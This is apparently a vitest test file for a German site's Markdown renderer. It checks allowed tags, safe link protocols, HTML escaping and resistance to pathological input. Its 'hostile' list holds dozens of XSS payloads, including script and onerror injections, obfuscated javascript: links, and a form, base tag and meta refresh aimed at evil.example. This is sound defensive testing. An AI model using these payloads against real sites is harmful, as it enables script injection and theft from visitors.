import { parseDocument } from 'htmlparser2';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { render } from '#lib/ui/text/markdown.ts';

type Node = ReturnType<typeof parseDocument>['children'][number];
interface Seen {
	tag: string;
	attributes: Record<string, string>;
}

function elements(nodes: readonly Node[]): Seen[] {
	return nodes.flatMap((node) => {
		if (!('attribs' in node)) return 'children' in node ? elements(node.children) : [];
		return [{ tag: node.name, attributes: node.attribs }, ...elements(node.children)];
	});
}

function seen(source: string): Seen[] {
	return elements(parseDocument(render(source)).children);
}

function words(source: string): string {
	return render(source)
		.replace(/<[^>]*>/g, '')
		.trim();
}

const tags = new Set(
	'p h2 h3 h4 h5 h6 ul ol li strong em del blockquote a code pre hr br table thead tbody tr th td div'.split(' ')
);

const OF_OUR_BOX = ['class', 'role', 'tabindex', 'aria-label'];

/** What a page of ours may contain, judged on the parsed tree: tags, attributes and where links go. */
function expectHarmless(source: string): void {
	for (const { tag, attributes } of seen(source)) {
		expect(tags).toContain(tag);
		const known = tag === 'div' ? OF_OUR_BOX : ['href', 'rel', 'start', 'scope'];
		expect(known).toEqual(expect.arrayContaining(Object.keys(attributes)));
		if (tag === 'div') expect(attributes).toMatchObject({ class: 'scroll', role: 'region', tabindex: '0' });
		if (attributes.href === undefined) continue;
		const target = new URL(attributes.href, 'https://teilhabe.example/seite');
		expect(['https:', 'http:', 'mailto:', 'tel:']).toContain(target.protocol);
		if (!/^(https?|mailto|tel):/i.test(attributes.href)) expect(target.host).toBe('teilhabe.example');
	}
}

const hostile = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example></SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<img src=x onerror=alert(1)>',
	'<img src="x" onerror="alert(1)"//',
	'![x](x.png "onerror=alert(1)")',
	'![" onerror="alert(1)](x)',
	'<svg><script>alert(1)</script></svg>',
	'<svg/onload=alert(1)>',
	'<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
	'<style>*{display:none}</style>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<object data="data:text/html,x"></object><embed src=x>',
	'<form action=//evil.example><input name=code><button>Weiter</button></form>',
	'<a href="https://a.example" onclick="alert(1)">x</a>',
	'<p style="position:fixed;inset:0" id="inhalt" class="kern-btn">x</p>',
	'<base href="//evil.example">',
	'<meta http-equiv=refresh content="0;url=//evil.example">',
	'<!-- <img src=x onerror=alert(1)> -->',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<p><table><td><a href="javascript:alert(1)">x',
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x](java\tscript:alert(1))',
	'[x](<java\nscript:alert(1)>)',
	'[x](&#106;avascript:alert(1))',
	'[x](&#x6A&#x61&#x76&#x61script&colon;alert(1))',
	'[x](java&Tab;script:alert(1))',
	'[x](java&NewLine;script:alert(1))',
	'[x](&#1;javascript:alert(1))',
	'[x](\u0001javascript:alert(1))',
	'[x](%6Aavascript:alert(1))',
	'[x](data:text/html;base64,PHNjcmlwdD4=)',
	'[x](vbscript:msgbox(1))',
	'[x](file:///etc/passwd)',
	'[x](//evil.example)',
	'[x](/\\evil.example)',
	'[x](\\\\evil.example)',
	'[x](/\t/evil.example)',
	'[x](https://a.example "\\" onmouseover=alert(1) \\"")',
	'[x][1]\n\n[1]: javascript:alert(1)',
	'[x]\n\n[x]: data:text/html,x',
	'<javascript:alert(1)>',
	'<data:text/html,x>',
	'javascript://%0aalert(1)',
	'`<script>alert(1)</script>`',
	'```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
	'# <b id=inhalt onclick=alert(1)>x</b> {#inhalt}',
	'| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=1> | y |',
	'> - 1. <details open ontoggle=alert(1)>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<textarea></textarea><img src=x onerror=alert(1)>'
];

test.each(hostile)('harmless: %j', (source) => {
	expectHarmless(source);
});

test('whatever anybody types is harmless', () => {
	const bit = fc.constantFrom(...hostile, '<', '>', '"', '&', '[', '](', ')', '\n', '\n\n', '`', '*', '> ', '- ', '|');
	fc.assert(
		fc.property(fc.array(bit, { maxLength: 12 }), (bits) => expectHarmless(bits.join(''))),
		{ numRuns: 300 }
	);
});

test('raw HTML is shown as it was typed', () => {
	expect(render('Das Zeichen <b>fett</b>')).toBe('<p>Das Zeichen &lt;b&gt;fett&lt;/b&gt;</p>\n');
});

test('headings begin below those of the page and never leave the scale', () => {
	expect(seen('# Eins\n\n## Zwei\n\n###### Sechs').map(({ tag }) => tag)).toEqual(['h3', 'h4', 'h6']);
	expect(render('# Eins', { base: 2 })).toContain('<h2>Eins</h2>');
	expect(render('# Eins', { base: 4 })).toContain('<h4>Eins</h4>');
});

test('what authors need comes through', () => {
	const found = seen(
		'1. **a**\n2. *b*\n\n> c\n\n| d |\n|---|\n| e |\n\n[f](/strategie) [g](https://g.example) <h@i.example>'
	);
	expect(new Set(found.map(({ tag }) => tag))).toEqual(
		new Set(['ol', 'li', 'strong', 'em', 'blockquote', 'p', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a'])
	);
	expect(found.filter(({ tag }) => tag === 'a').map(({ attributes }) => attributes)).toEqual([
		{ href: '/strategie', rel: 'nofollow' },
		{ href: 'https://g.example', rel: 'nofollow noopener' },
		{ href: 'mailto:h@i.example', rel: 'nofollow noopener' }
	]);
});

test('a picture leaves its words', () => {
	expect(words('![Ein Plan](plan.png)')).toBe('Ein Plan');
});

const n = 40_000;
const heavy: Record<string, string> = {
	quotes: '>'.repeat(n),
	'quotes with spaces': '> '.repeat(n),
	lists: '- '.repeat(n),
	'numbered lists': '1. '.repeat(n),
	'indented lists': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n'),
	brackets: '['.repeat(n),
	links: '[a]('.repeat(n / 4),
	pictures: '!['.repeat(n / 2),
	emphasis: '*a _b '.repeat(n / 6) + ' c_ d*'.repeat(n / 6),
	strong: '**a'.repeat(n / 3),
	tags: '<a '.repeat(n / 3),
	comments: '<!--'.repeat(n / 4),
	ticks: '`'.repeat(n),
	columns: `${'|a'.repeat(n / 8)}\n${'|-'.repeat(n / 8)}`,
	book: 'Ein Satz mit **Betonung** und [Verweis](/a).\n\n'.repeat(n / 10)
};

test.each(Object.entries(heavy))('does not hang on %s', (_, source) => {
	const before = performance.now();
	expectHarmless(source.slice(0, 20_000));
	render(source);
	expect(performance.now() - before).toBeLessThan(4_000);
});

test.each([
	['• eins\n• zwei', '• eins<br />• zwei'],
	['Wir wollen:\n– Wege\n– Busse', 'Wir wollen:<br />– Wege<br />– Busse'],
	['a) eins\nb) zwei\naa) drei', 'a) eins<br />b) zwei<br />aa) drei'],
	['(1) Satz eins.\n(2) Satz zwei\ngeht weiter.', '(1) Satz eins.<br />(2) Satz zwei\ngeht weiter.'],
	['§ 1 Ziel\n§ 2 Weg', '§ 1 Ziel<br />§ 2 Weg'],
	// In the middle of a line they are words, and so is what only looks alike.
	['Punkt a) und b)\n(siehe oben)', 'Punkt a) und b)\n(siehe oben)']
])('lines that are listed without Markdown stay lines: %j', (source, lines) => {
	expect(render(source)).toBe(`<p>${lines}</p>\n`);
});
